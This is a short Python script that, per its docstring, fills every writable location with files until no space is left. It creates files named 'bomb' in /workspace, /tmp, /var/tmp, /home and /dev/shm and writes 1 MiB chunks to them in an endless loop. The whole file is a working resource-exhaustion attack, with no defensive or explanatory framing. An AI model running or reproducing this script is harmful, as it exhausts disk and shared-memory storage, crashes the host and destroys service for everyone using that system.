"""Takes memory by files, in every place it may write to, until there is none."""

from __future__ import annotations

import os

places = [
    os.open(f"{place}/bomb", os.O_WRONLY | os.O_CREAT)
    for place in ("/workspace", "/tmp", "/var/tmp", "/home", "/dev/shm")
]
while True:
    for place in places:
        os.write(place, b"\1" * (1 << 20))
